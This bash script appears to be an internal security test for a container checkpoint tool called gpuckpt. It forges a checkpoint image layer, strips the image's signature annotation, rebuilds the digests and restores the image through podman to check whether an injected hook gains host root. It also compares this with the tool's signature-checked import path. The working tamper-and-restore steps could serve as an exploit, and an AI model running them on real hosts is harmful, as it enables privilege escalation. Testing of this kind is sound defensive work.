#!/bin/bash
# attack30b: the same hook attack through `podman container restore IMAGE` (a checkpoint image in podman's
# storage): gpuckpt export ... oci:, its layer edited by edit.py (hook-forged), copied in with skopeo.
set -u
MODE=${1:-hook-forged}  # hook-nosig: the control (no forged placeholder)
D=/var/tmp/attack30b; H=$(dirname "$(readlink -f "$0")"); P=/usr/lib/gpuckpt/venv/bin/python3
cd $D; rm -rf img img-edit hook-ran-*
podman rm -f -t 0 attack30b-src >/dev/null 2>&1
podman run -d --name attack30b-src --network none localhost/gpuckpt-test:latest \
  sh -c 'i=0; while true; do i=$((i+1)); echo $i > /tmp/count; sleep 1; done' >/dev/null
sleep 2
gpuckpt export attack30b-src -o oci:$D/img:v1 | tail -1
podman rm -f -t 0 attack30b-src >/dev/null
cp -a img img-edit
$P - "$H" "$MODE" <<'PY'
import hashlib, json, subprocess, sys
from pathlib import Path
d = Path("/var/tmp/attack30b/img-edit"); blobs = d / "blobs" / "sha256"
def blob(data):
    h = hashlib.sha256(data).hexdigest(); (blobs / h).write_bytes(data); return f"sha256:{h}"
index = json.loads((d / "index.json").read_text())
manifest = json.loads((blobs / index["manifests"][0]["digest"][7:]).read_text())
layer = manifest["layers"][0]
subprocess.run([sys.executable, f"{sys.argv[1]}/edit.py", str(blobs / layer["digest"][7:]), str(d / "layer.new"),
                sys.argv[2]], check=True, stdout=subprocess.DEVNULL)
new = (d / "layer.new").read_bytes(); (d / "layer.new").unlink()
layer["digest"], layer["size"] = blob(new), len(new)
manifest.get("annotations", {}).pop("io.gpuckpt.signature", None)
m = json.dumps(manifest).encode()
index["manifests"][0]["digest"], index["manifests"][0]["size"] = blob(m), len(m)
(d / "index.json").write_text(json.dumps(index))
PY
skopeo copy -q oci:$D/img-edit:v1 containers-storage:localhost/attack30b-img:v1 && echo "copied in"
timeout 200 podman container restore localhost/attack30b-img:v1 2>&1 | tail -1 | cut -c1-300; echo "restore IMAGE rc=${PIPESTATUS[0]}"
[ -e $D/hook-ran-kmsg-${MODE#hook-} ] && echo "HOST ROOT: $(head -1 $D/hook-ran-kmsg-${MODE#hook-})" || echo "hook did not run"
podman rm -f -t 0 attack30b-src >/dev/null 2>&1
echo "--- the checked path: gpuckpt import oci: of the same edited image (restore:any in a trust dir of our own)"
# a trust directory of our own (GPUCKPT_TRUST_DIR: this node's key and policy copied), so the node's policy,
# which other engineers' tests edit meanwhile, is never touched
rm -rf $D/trust; mkdir -m 700 $D/trust; cp /etc/gpuckpt/node.key /etc/gpuckpt/trust.toml $D/trust/
GPUCKPT_TRUST_DIR=$D/trust gpuckpt trust allow-unsigned restore:any --note "attack30b review" >/dev/null
GPUCKPT_TRUST_DIR=$D/trust gpuckpt import oci:$D/img-edit:v1 2>&1 | grep -v "is unsigned" | cut -c1-300; echo "gpuckpt import oci rc=${PIPESTATUS[0]}"
podman rm -f -t 0 attack30b-src >/dev/null 2>&1
podman rmi localhost/attack30b-img:v1 >/dev/null 2>&1 && echo "image removed"
